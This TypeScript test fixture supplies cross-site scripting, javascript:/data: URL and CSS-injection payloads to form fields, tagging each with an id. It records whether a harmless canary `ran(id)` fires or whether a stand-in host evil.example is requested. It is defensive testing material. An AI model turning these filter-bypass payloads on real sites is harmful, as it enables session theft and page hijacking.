/** A hostile text for one field. Its code calls `ran(id)`, and its styles request `/css-id` from `evil`. */
export type Payload = (id: number) => string;

/** A host that does not exist. Tests block and record every request to other machines. */
export const evil = "https://evil.example";

/** Texts that make a browser run code if they are parsed as markup. */
export const markups: readonly Payload[] = [
  (id) => `<script>ran(${id})</script>`,
  (id) => `</script><script>ran(${id})</script>`,
  (id) => `<img src=x onerror=ran(${id})>`,
  (id) => `"><img src=x onerror="ran(${id})">`,
  (id) => `'><svg onload=ran(${id})>`,
  (id) => `<svg><script>ran(${id})</script></svg>`,
  (id) => `<svg><animate onbegin=ran(${id}) attributeName=x dur=1s>`,
  (id) => `<iframe srcdoc="<script>ran(${id})</script>"></iframe>`,
  (id) => `<iframe src="javascript:ran(${id})"></iframe>`,
  (id) => `<object data="data:text/html,<script>ran(${id})</script>"></object>`,
  (id) => `<details open ontoggle=ran(${id})>x</details>`,
  (id) => `<input autofocus onfocus=ran(${id})>`,
  (id) => `<video><source onerror=ran(${id})></video>`,
  (id) => `<body onload=ran(${id})>`,
  (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran(${id})>">`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=ran(${id})>">`,
  (id) => `<style>@import url(${evil}/css-${id});</style>`,
  (id) => `</style><link rel=stylesheet href=${evil}/css-${id}>`,
  (id) => `</title><base href=${evil}/css-${id}><meta http-equiv=refresh content="0;url=javascript:ran(${id})">`,
  (id) => `</textarea><form action=javascript:ran(${id})><button autofocus>x</button></form>`,
  (id) => `<template shadowrootmode=open><script>ran(${id})</script></template>`,
  (id) => `&lt;script&gt;ran(${id})&lt;/script&gt;`,
  (id) => `\\u003cscript\\u003eran(${id})\\u003c/script\\u003e`,
  (id) => `[[constructor.constructor('ran(${id})')()]]`,
  (id) => `\${ran(${id})}`,
  (id) => `[x](javascript:ran(${id})) ![x](x"onerror="ran(${id}))`,
  (id) => `<!--><script>ran(${id})</script>-->`,
  (id) => `<a href="javascript:ran(${id})" autofocus onfocusin=ran(${id})>x</a>`,
];

/** Texts that are not addresses: code, documents with code, or addresses that end early and begin another construct. */
export const addresses: readonly Payload[] = [
  (id) => `javascript:ran(${id})`,
  (id) => `JaVaScRiPt:ran(${id})`,
  (id) => `  javascript:ran(${id})`,
  (id) => `java\nscript:ran(${id})`,
  (id) => `java\tscript:ran(${id})`,
  (id) => `javascript:ran(${id})`,
  (id) => `javascript://example.com/%0aran(${id})`,
  (id) => `javascript&colon;ran(${id})`,
  (id) => `&#106;avascript:ran(${id})`,
  (id) => `https:javascript:ran(${id})`,
  (id) => `view-source:javascript:ran(${id})`,
  (id) => `vbscript:ran(${id})`,
  (id) => `data:text/html,<script>ran(${id})</script>`,
  (id) => `data:text/html;base64,${btoa(`<script>ran(${id})</script>`)}`,
  (id) =>
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran(${id})"><script>ran(${id})</script></svg>`,
  (id) => `data:image/png,x" onerror="ran(${id})`,
  (id) => `blob:null/ran(${id})`,
  (id) => `x" onerror="ran(${id})" onload="ran(${id})`,
  (id) => `x'><script>ran(${id})</script>`,
  (id) => `about:srcdoc#<script>ran(${id})</script>`,
];

/** Values of styles that end early and begin another construct, or send a request to another machine. */
export const styles: readonly Payload[] = [
  (id) => `red;}*{--hacked:${id};background:url(${evil}/css-${id})}`,
  (id) => `red;background:url(${evil}/css-${id})`,
  (id) => `url(${evil}/css-${id})`,
  (id) => `image-set("${evil}/css-${id}" 1x)`,
  (id) => `#fff}@import "${evil}/css-${id}";*{--hacked:${id}`,
  (id) => `#fff;--hacked:${id}`,
  (id) => `rgb(0,0,0);--hacked:${id}`,
  (id) => `rgb(0 0 0 / 1)}*{--hacked:${id}}`,
  (id) => `var(--x,url(${evil}/css-${id}))`,
  (id) => `1px);--hacked:${id};x:calc(1px`,
  (id) => `Arial";}*{--hacked:${id}}"`,
  (id) => `Arial'},*{--hacked:${id}}`,
  (id) => `\\7d *\\7b --hacked:${id}\\7d `,
  (id) => `red/**/;}*{--hacked:${id}}/*`,
  (id) => `red\n}*{--hacked:${id}}`,
  (id) => `</style><script>ran(${id})</script><style>*{--hacked:${id}}`,
  (id) => `expression(ran(${id}))`,
  (id) => `attr(x);behavior:url(${evil}/css-${id});-moz-binding:url(${evil}/css-${id})`,
];

/** Issues payloads, each with a unique id, and records the field of each payload. */
export function createPayloads() {
  const given: { readonly place: string; readonly text: string }[] = [];
  const give = (place: string, payload: Payload): string => {
    const text = payload(given.length);
    given.push({ place, text });
    return text;
  };
  return {
    /** Issues one payload for the field. */
    give,
    /** Issues each of the payloads for the field. */
    all: (place: string, payloads: readonly Payload[]) => payloads.map((payload) => give(place, payload)),
    /** Returns a function that issues the next payload of the list, so that many fields share the list. */
    dealer(payloads: readonly Payload[]) {
      let next = 0;
      return (place: string) => {
        const payload = payloads[next++ % payloads.length];
        return payload ? give(place, payload) : "";
      };
    },
    count: () => given.length,
    places: () => new Set(given.map(({ place }) => place)).size,
    /** Returns the field and the text of the payload with the id, as JSON. */
    whatRan: (id: unknown) => `${JSON.stringify(given[Number(id)])}`,
  };
}
